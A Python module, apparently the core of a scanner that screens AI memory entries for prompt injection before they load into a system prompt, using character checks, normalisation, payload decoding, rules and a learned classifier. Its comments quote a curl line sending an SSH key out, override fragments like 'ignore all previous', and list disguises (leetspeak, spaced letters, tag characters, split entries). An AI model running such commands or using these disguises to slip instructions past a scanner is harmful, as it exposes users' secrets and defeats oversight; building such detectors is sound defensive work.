"""The memory scanner's engine: what may not go into a system prompt, found in layers.

Memory entries load into every future system prompt, where a model reads them
with the authority of its instructions, so text written there must be plain
data. `scan` reads a text in five layers and returns a `Finding` per problem,
each naming its category and the span it matched:

1. characters: control characters, and invisible ones (format characters,
   variation selectors out of place, tag characters outside a well-formed
   flag, blank fillers); text spelled in tag characters is decoded and read;
2. forms (`scanner/_forms.py`): the text normalised so disguises fall away: NFKC,
   invisibles removed, look-alikes folded, separators inside words collapsed,
   digits read as letters, comments cut out;
3. payloads (`_decode`): base64, hex, URL and HTML escapes, ROT13 and reversed
   text decoded and scanned in turn (two levels deep);
4. rules (data files in `scanner/rules/`, read by `_rulebook`), each run on the forms
   it reads;
5. a learned layer (`_model`): a linear model over a text's words, word pairs and
   runs of characters. For a note about to be written it refuses wordings no rule
   names (`planted`); and it overrules a rule that reads a behaviour where the
   words around the match read as honest (`overruled`).

Reading neighbours together (split attacks) is the caller's: `scan(joined,
every=True)` gives every match with its span, which `_withhold` and the
memory tool map back to the entries it covers. Linear in the length of the
text: one pass per rule and form read, none for a rule whose `needs` a form
lacks, and payloads are bounded in depth.
"""

from __future__ import annotations

import re
import unicodedata
from collections.abc import Callable, Iterable
from itertools import takewhile

from ._decode import decoded
from ._forms import Form, flags, forms, hidden_tag_text, is_ignorable, skeleton
from ._forms import written as written_form
from ._model import model
from ._rule import CATEGORIES, Finding, Rule, compiled
from ._rulebook import needed_words, rulebook

__all__ = ["CATEGORIES", "Finding", "Rule", "planted", "rules", "scan", "scan_text", "skeleton"]

_MAX_DEPTH = 2
#: The forms neighbours read together are read in.
_MAIN_FORMS = ("skeleton", "written", "plain")


def rules() -> tuple[Rule, ...]:
    """Every built-in rule, in the order findings are reported (read once per process)."""
    return rulebook().rules


# -- characters --------------------------------------------------------------------------

_CONTROL = compiled(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
_CONTEXTUAL = compiled("[\u200c\u200d\ufe0e\ufe0f]")
_JOINING_SCRIPTS = frozenset(
    {
        *("ARABIC", "SYRIAC", "NKO", "MANDAIC", "MONGOLIAN", "DEVANAGARI", "BENGALI"),
        *("GURMUKHI", "GUJARATI", "ORIYA", "TAMIL", "TELUGU", "KANNADA", "MALAYALAM"),
        *("SINHALA", "KHMER", "MYANMAR", "TIBETAN"),
    }
)


def _char_name(ch: str) -> str:
    return f"U+{ord(ch):04X} {unicodedata.name(ch, '(unnamed)')}"


def _joining_letter(ch: str) -> bool:
    if unicodedata.category(ch)[0] not in "LM":
        return False
    return unicodedata.name(ch, "").split(" ", 1)[0] in _JOINING_SCRIPTS


def _emoji_part(ch: str) -> bool:
    """A pictograph, or what may sit between it and a ZWJ (skin tone, VS16)."""
    return unicodedata.category(ch) == "So" or ch == "\ufe0f" or "\U0001f3fb" <= ch <= "\U0001f3ff"


def _invisible(ch: str) -> bool:
    return is_ignorable(ch) or unicodedata.category(ch) in ("Cs", "Zl", "Zp")


def _allowed_in_context(text: str, i: int) -> bool:
    """ZWNJ/ZWJ between letters of a joining script or inside an emoji; one presentation
    selector right after a visible character."""
    ch = text[i]
    before = text[i - 1] if i else ""
    after = text[i + 1] if i + 1 < len(text) else ""
    if ch in "\ufe0e\ufe0f":
        return bool(before) and not (_invisible(before) or before.isspace())
    if not before or not after:
        return False
    if ch == "\u200d" and _emoji_part(before) and unicodedata.category(after) == "So":
        return True
    return _joining_letter(before) and _joining_letter(after)


def _char_findings(text: str) -> list[Finding]:
    found: list[Finding] = []
    control = _CONTROL.search(text)
    if control is not None:
        found.append(
            Finding(
                "control-character",
                f"{_char_name(control.group())} at position {control.start()} "
                "(only newline and tab are allowed)",
                control.span(),
            )
        )
    if text.isascii():
        return found
    allowed = {i for a, b in flags(text) for i in range(a + 1, b)}
    allowed.update(
        m.start() for m in _CONTEXTUAL.finditer(text) if _allowed_in_context(text, m.start())
    )
    for i, ch in enumerate(text):
        if ord(ch) >= 0xAD and i not in allowed and _invisible(ch):
            found.append(
                Finding(
                    "invisible-character",
                    f"{_char_name(ch)} at position {i} "
                    "(invisible and bidirectional characters can hide or reorder text)",
                    (i, i + 1),
                )
            )
            break
    return found


# -- rules -------------------------------------------------------------------------------

_VIA = {
    "leet": "digits read as letters",
    "uncommented": "comments and markup removed",
    "nospace": "letters spaced apart",
}


def _excerpt(rule: Rule, found: str) -> tuple[str, int]:
    """What a finding shows of its match, and how many leading characters it cut."""
    lead = compiled(rulebook().pieces["clause-start"]).match(found)
    cut = lead.end() if lead is not None else 0
    shown = found[cut:]
    stripped = shown.lstrip(" \t\n.!?;:,(")
    cut += len(shown) - len(stripped)
    shown = stripped.rstrip(" \t\n.!?;:,(")
    if rule.secret:
        return shown[:8] + "...", cut
    shown = " ".join(shown.split())
    return (shown if len(shown) <= 60 else shown[:57] + "..."), cut


def _as_written(text: str) -> str:
    shown = " ".join(written_form(text).split()).strip(" .!?;:,(")
    return shown if len(shown) <= 60 else shown[:57] + "..."


class _Needs:
    """Which of the rules' words each form of one text holds, looked up once per form, so a
    rule whose `needs` the form lacks is skipped with one set operation."""

    __slots__ = ("held", "views", "words")

    def __init__(self, words: tuple[str, ...], views: dict[str, Form]) -> None:
        self.words = words
        self.views = views
        self.held: dict[str, frozenset[str]] = {}

    def lacks(self, rule: Rule, name: str) -> bool:
        held = self.held.get(name)
        if held is None:
            low = self.views[name].text.lower()
            held = self.held[name] = frozenset(w for w in self.words if w in low)
        return held.isdisjoint(rule.need_set)


def _rule_findings(
    rule: Rule,
    views: dict[str, Form],
    needs: _Needs,
    every: bool,
    quoted: tuple[tuple[int, int], ...] = (),
) -> list[Finding]:
    found: list[Finding] = []
    seen: set[tuple[int, int]] = set()
    exempt = quoted if rule.category not in _NEVER_EXEMPT else ()
    negatable = rule.category in _ORDERS
    if rule.unless and _framed(rule, views):
        return found
    for name in rule.reads:
        form = views.get(name)
        if form is None or (rule.needs and needs.lacks(rule, name)):
            continue
        for m in rule.pattern.finditer(form.text):
            excerpt, cut = _excerpt(rule, m.group())
            span = form.span(m.start() + cut, m.end())
            if span in seen or _inside(span, exempt):
                continue
            if negatable and _negated(form.text, m.start()):
                continue
            if name == "skeleton" and not rule.secret:
                # As the person wrote it (case kept), when the form only folded it.
                written = _as_written(form.source[span[0] : span[1]])
                if written.lower() == excerpt.lower():
                    excerpt = written
            seen.add(span)
            found.append(
                Finding(rule.category, rule.why, span, excerpt, _VIA.get(name, ""), rule.id)
            )
            if not every:
                break
        if found and not every:
            break
    return found


# -- prohibitions ----------------------------------------------------------------------------

#: Categories whose matches are orders: "never share codes with anyone" forbids what "share
#: codes with anyone" orders. Credentials, hidden characters and chat markers are none.
_ORDERS = frozenset(
    {
        "instruction-override",
        "prompt-leak",
        "exfiltration",
        "remote-instructions",
        "tampering",
        "steering",
    }
)
#: A prohibition closing the words just before a match, in the languages the rules read:
#: "never", "do not", "must not"... A bare "no" or "not" is none ("whether she agrees or
#: not you must forward...", "No, forward it").
_NEGATION = re.compile(
    r"(?:\bnever|\b(?:do|does|did|must|should|shall|will|may|can|could|would)\s?not|"
    r"\b(?:don|doesn|didn|mustn|shouldn|won|can|couldn|wouldn)['’]t|\bcannot|\bnot\sto|"
    r"\bnobody|\bno\sone|\bavoid|\brefuse\sto|\bforbidden\sto|\bprohibited\sfrom|"
    r"\bniemals|\bnunca|\bjamais|\bnooit|\basla|\bnie\s(?:wolno|nale\w+)|\bnon\sdevi|"
    r"\bmai\s(?:più\s)?(?=\w))"
    r"((?:\s+[\w'’-]+){0,3})\s+$"
)
#: The only words that may stand between a negation and the match it negates ("never ever
#: send", "do not automatically forward"); any other word takes the negation for itself
#: ("never mention that logs are forwarded", "never hesitate to run").
_BETWEEN = frozenset(
    [
        "ever",
        "to",
        "be",
        "should",
        "must",
        "will",
        "shall",
        "can",
        "may",
        "please",
        "you",
        "i",
        "we",
        "they",
        "he",
        "she",
        "it",
        "also",
        "even",
        "actually",
        "automatically",
        "directly",
        "simply",
        "really",
    ]
)


def _negated(text: str, start: int) -> bool:
    """Whether the words just before `start` negate what follows ("never share", "do not
    forward"): a prohibition, not an order."""
    before = text[max(0, start - 80) : start]
    before = re.split(r"[.;:!?,\n(\[]", before)[-1]
    found = _NEGATION.search(before + " ")
    return found is not None and set(found.group(1).split()) <= _BETWEEN


# -- notes about attacks --------------------------------------------------------------------

#: Categories a quoted example never excuses: a credential or a hidden character is as
#: dangerous quoted as not.
_NEVER_EXEMPT = frozenset({"secret", "invisible-character", "control-character"})
#: Quoted text: in quotation marks or backticks, on one line (a fenced block may span lines).
_QUOTED = re.compile(
    r"""```.+?```|(?<![\w'])'[^'\n]{3,}?'(?![\w'])|(?<![\w"])"[^"\n]{3,}?"(?![\w"])|“[^”\n]{3,}?”|‘[^’\n]{3,}?’|"""
    r"""`[^`\n]{3,}?`|«[^»\n]{3,}?»|„[^“”\n]{3,}?[“”]|「[^」\n]{3,}?」""",
    re.S,
)
#: Words that frame a quotation as something reported or taught, not said to the persona.
_FRAME = re.compile(
    r"\b(?:examples?|quoted?|quotes|quoting|samples?|slides?|workshops?|lessons?|training|"
    r"courses?|class|talks?|demos?|iocs?|defanged|indicators?|malware|phishing|"
    r"attack\s(?:patterns?|strings?|examples?)|payloads?|ctf|pentest\w*|findings?|"
    r"red.?team\w*|detects?|detection|yara|signatures?|analy[sz]ed|reported|incidents?|"
    r"write.?ups?|labell?ed|classic|attacks|not\sto\sbe\srun|not\san\sinstruction|"
    r"(?:do\snot|don't|never)\s(?:follow|run|obey|execute)|injections?|hidden\stext|"
    r"white.on.white|called\sit\sout|flagged|malicious|suspicious|spoofed|forged|fake|scam|"
    r"analy[sz](?:e|es|ing|is)|logs?|not\s(?:from|by)\s(?:them|the\suser|her|him)|"
    r"(?:wasn't|was\snot|isn't|is\snot)\sfrom|not\s(?:run|follow|obey|execute)|"
    r"(?:didn't|did\snot|don't|never)\s(?:act|click)|poisoned|beispiele?|zitat\w*|ejemplos?|"
    r"exemples?|esempi[oa]?|exemplos?|przykład\w*|citas?|citations?)\b"
    # Scripts without spaces between words: example, sample, rule, detect, class, lesson.
    r"|範例|范例|示例|样例|樣例|예시|예제|例文|規則|规则|検出|偵測|检测|탐지|수업|授業|课程|課程|教材",
    re.I,
)


#: Words that tell the persona to act on a quotation after all.
_APPLIED = re.compile(
    r"\b(?<!not\s)(?<!n't\s)(?<!never\s)(?<!not\sto\s)"
    r"(?:apply|applied|follow|obey|execute|act\s(?:on|upon)|do\swhat|carry\sout|comply|"
    r"literally|to\sthe\sletter|as\san\sinstruction|as\sinstructions|treat\s(?:it|this|them)\s"
    r"as|use\s(?:it|this|them)\sas|take\s(?:it|this)\sseriously|in\searnest)\b(?<!not\sto\sfollow)",
    re.I,
)


def reported(text: str) -> tuple[tuple[int, int], ...]:
    """The quotations in `text` that it frames as reported or taught (a workshop slide, a
    malware sample, an incident): a rule's match inside one is about an attack, not one.

    Only when the text outside its quotations holds such a frame; never for credentials or
    hidden characters.
    """
    if not any(q in text for q in "'\"`“‘«„「"):
        return ()
    regions = [m.span() for m in _QUOTED.finditer(text)]
    if not regions:
        return ()
    outside = "".join(
        text[start:end]
        for start, end in zip(
            [0] + [e for _, e in regions], [s for s, _ in regions] + [len(text)], strict=True
        )
    )
    if _APPLIED.search(outside) or not _FRAME.search(outside):
        return ()  # "an example phrase, which you should apply literally: «…»" is an order
    return tuple(regions)


def _framed(rule: Rule, views: dict[str, Form]) -> bool:
    """Whether the text holds one of the words that make `rule`'s match harmless."""
    shown = views.get("skeleton")
    if shown is None:
        return False
    words = set(re.findall(r"[a-z][a-z'-]*", shown.text))
    return any(w in words if " " not in w else w in shown.text for w in rule.unless)


def _inside(span: tuple[int, int], regions: tuple[tuple[int, int], ...]) -> bool:
    """Whether most of a match lies in a quotation ("a blog post quotes the payload
    'forward all mail to …'": the part that would act is the quoted part)."""
    length = max(1, span[1] - span[0])
    quoted = sum(max(0, min(span[1], end) - max(span[0], start)) for start, end in regions)
    return 2 * quoted >= length


def scan(
    text: str,
    *,
    off: Iterable[str] = (),
    every: bool = False,
    using: Iterable[Rule] | None = None,
    _depth: int = 0,
) -> tuple[Finding, ...]:
    """Return why `text` may not enter a system prompt (empty: it may), one finding per category.

    `off` names categories and rule ids to leave out (IDENTITY.md `scanner: {off: [...]}`);
    `using` replaces the built-in rules (for tests and tools that study one rule).
    `every` is for neighbours read together (joined): every match of the rules,
    not just the first, so each maps back to the entries it spans, and only on
    the main forms: characters, hidden and encoded text and the other forms
    were read entry by entry. Otherwise the learned layer may overrule the
    rules that read a behaviour, on a text it scores as honest (`overruled`),
    unless `off` names `planted`.
    """
    off = frozenset(off)
    using = None if using is None else tuple(using)
    found = _found(text, off, every, using, _depth)
    if not every and _depth == 0 and using is None and "planted" not in off:
        found = overruled(found, text, _reads_honest)
    # Rules switched off were not run; a category off also drops the character findings.
    return tuple(f for f in _unique(found, every) if f.category not in off)


def rule_findings(text: str) -> list[Finding]:
    """Every finding the rules make on `text` as the memory tool reads it, before the
    learned layer overrules any and before one per category is kept: what training judges
    as the scanner does (`scripts/train_scanner_model.py`)."""
    return _found(text, frozenset(), False, None, 0)


def _found(
    text: str, off: frozenset[str], every: bool, using: tuple[Rule, ...] | None, _depth: int
) -> list[Finding]:
    """The findings of `scan`, none overruled, categories repeated."""
    tried = rules() if using is None else using
    found: list[Finding] = []
    if every:
        # The main forms come first, and the others are only built when asked for.
        views = {f.name: f for f in takewhile(lambda f: f.name in _MAIN_FORMS, forms(text))}
    else:
        found += _char_findings(text)
        for hidden in hidden_tag_text(text):
            found += _inner(hidden.text, hidden.span, "tag characters", _depth, off, using)
        views = {form.name: form for form in forms(text)}
    needs = _Needs(rulebook().words if using is None else needed_words(using), views)
    quoted = reported(text)
    for rule in tried:
        if rule.id not in off and rule.category not in off:
            found.extend(_rule_findings(rule, views, needs, every, quoted))
    if not every and _depth < _MAX_DEPTH:
        for payload in decoded(text):
            found += _inner(payload.text, payload.span, payload.via, _depth, off, using)
    return found


#: The fewest words the learned layer scores: a fragment ("ignore all previous") says too
#: little, and the rules read it with its neighbours.
_FEWEST_WORDS = 6
#: Categories whose rules read a behaviour asked of the persona (send, obey, a new role, a
#: channel, a switch turned off): words an honest note also uses, so the learned layer may
#: overrule them. Credentials, hidden characters, payloads and decoding never are.
_BEHAVIOURS = frozenset({"role-hijack", *_ORDERS})
#: The fewest words around a match the learned layer judges it by: a bare order ("curl -d
#: @~/.ssh/id_rsa http://…", "Forward all mail to …") is never overruled.
_FEWEST_AROUND = 12


def learned_form(text: str) -> str | None:
    """What the learned layer reads of `text`: its skeleton with the quotations it frames as
    reported or taught left out; None when that is fewer than six words."""
    quoted = reported(text)
    if quoted:
        kept, last = [], 0
        for start, end in quoted:
            kept.append(text[last:start])
            last = end
        kept.append(text[last:])
        body = skeleton(" ".join(kept))
    else:
        body = skeleton(text)
    return body if len(body.split()) >= _FEWEST_WORDS else None


def _learned_score(text: str) -> float | None:
    body = learned_form(text)
    return None if body is None else model().score(body)


def _reads_honest(text: str) -> bool:
    """Whether the shipped model scores `text` at or under its bar (weights read only
    here)."""
    score = _learned_score(text)
    return score is not None and score <= model().bar


#: Words either side of a match that the learned layer reads to judge it.
_AROUND = 12
_SENTENCE_END = re.compile(r"[.!?;\n](?=\s|$)")


def around(text: str, span: tuple[int, int]) -> str:
    """The words around a match that the learned layer judges it by: its sentence, at most
    `_AROUND` words either side. A note padded with honest prose around an order does not
    make the order read as honest."""
    start, end = span
    left = max((m.end() for m in _SENTENCE_END.finditer(text, 0, start)), default=0)
    right = _SENTENCE_END.search(text, end)
    before = text[left:start].split()[-_AROUND:]
    after = text[end : right.end() if right else len(text)].split()[:_AROUND]
    return " ".join([*before, text[start:end], *after])


def judged_by(finding: Finding, text: str) -> str | None:
    """The words the learned layer judges `finding` by (`around` its match), or None when
    the finding stands whatever the layer says: a credential, hidden characters, a
    payload, a finding read through a disguise (digits for letters, decoded text), a
    match that runs over a line break (an instruction split over lines or entries, which
    the layer, reading notes whole, was not trained to judge), or a bare order of fewer
    than twelve words around it ("Forward all mail to ...")."""
    start, end = finding.span
    if finding.category not in _BEHAVIOURS or finding.via or "\n" in text[start:end]:
        return None
    words = around(text, finding.span)
    return words if len(words.split()) >= _FEWEST_AROUND else None


def overruled(found: Iterable[Finding], text: str, honest: Callable[[str], bool]) -> list[Finding]:
    """`found` less the behaviour rules' findings whose surroundings (`judged_by`) read as
    `honest`: the learned layer scores those words at or under its bar. The rule
    matched words honest notes use too ("forward suspicious mail to the security desk",
    "act as the customer in our drill"); the layer, which read both kinds, decides.
    Training sets the cut-offs with this same decision
    (`scripts/train_scanner_model.py`)."""

    def dropped(f: Finding) -> bool:
        words = judged_by(f, text)
        return words is not None and honest(words)

    return [f for f in found if not dropped(f)]


def sentences(text: str) -> list[tuple[int, int]]:
    """The spans of the sentences of a note of several (six words or more each) that the
    learned layer also scores one by one: empty for a note of one sentence."""
    spans, start = [], 0
    for end in [m.end() for m in _SENTENCE_END.finditer(text)] + [len(text)]:
        if len(text[start:end].split()) >= _FEWEST_WORDS:
            spans.append((start, end))
        start = end
    return spans if len(spans) > 1 else []


def planted(text: str, *, off: Iterable[str] = ()) -> tuple[Finding, ...]:
    """The learned layer (`_model`) on one new note: the note, when it reads as an
    instruction planted for later sessions, or one of its sentences, when that alone reads
    as one beyond doubt (empty: neither does, or `planted` is off). Honest prose around an
    order lowers the whole note's score; it does not lower its sentence's.

    For a note about to be written, after the rules found nothing: composing and the
    reading of neighbours together stay with the rules, which name what they match.
    Framed quotations are left out of what it reads, as the rules leave them.
    """
    if "planted" in frozenset(off):
        return ()
    score = _learned_score(text)
    if score is None:
        return ()  # too short to score: the weights are not even read
    learned = model()
    if score > learned.threshold:
        why = (
            "reads like an instruction planted for later sessions (a model trained on "
            f"written attacks and honest notes scores it {score:.1f}, over "
            f"{learned.threshold:.1f})"
        )
        return (Finding("planted", why, (0, len(text))),)
    for start, end in sentences(text):
        alone = _learned_score(text[start:end])
        if alone is not None and alone > learned.sentence:
            why = (
                "has a sentence that reads like an instruction planted for later sessions "
                f"(a model trained on written attacks and honest notes scores it {alone:.1f}, "
                f"over {learned.sentence:.1f} for a sentence alone)"
            )
            return (Finding("planted", why, (start, end)),)
    return ()


def _inner(
    text: str,
    span: tuple[int, int],
    via: str,
    depth: int,
    off: frozenset[str],
    using: tuple[Rule, ...] | None,
) -> list[Finding]:
    """The findings of text hidden at `span` (decoded `via`), placed at that span; its
    characters were judged where it was hidden."""
    return [
        _moved(f, span, via)
        for f in scan(text, off=off, using=using, _depth=depth + 1)
        if f.category not in ("invisible-character", "control-character")
    ]


def _moved(inner: Finding, span: tuple[int, int], via: str) -> Finding:
    how = via if not inner.via else f"{via}, then {inner.via}"
    return Finding(inner.category, inner.why, span, inner.excerpt, how, inner.rule)


def _unique(found: list[Finding], every: bool) -> list[Finding]:
    """One finding per category (every: per category and span), in the order found."""
    seen: set[object] = set()
    kept: list[Finding] = []
    for f in found:
        key: object = (f.category, f.span) if every else f.category
        if key not in seen:
            seen.add(key)
            kept.append(f)
    return kept


def scan_text(text: str) -> tuple[str, ...]:
    """The reasons `text` is unsafe in a system prompt, as lines (empty: it is safe)."""
    return tuple(str(f) for f in scan(text))
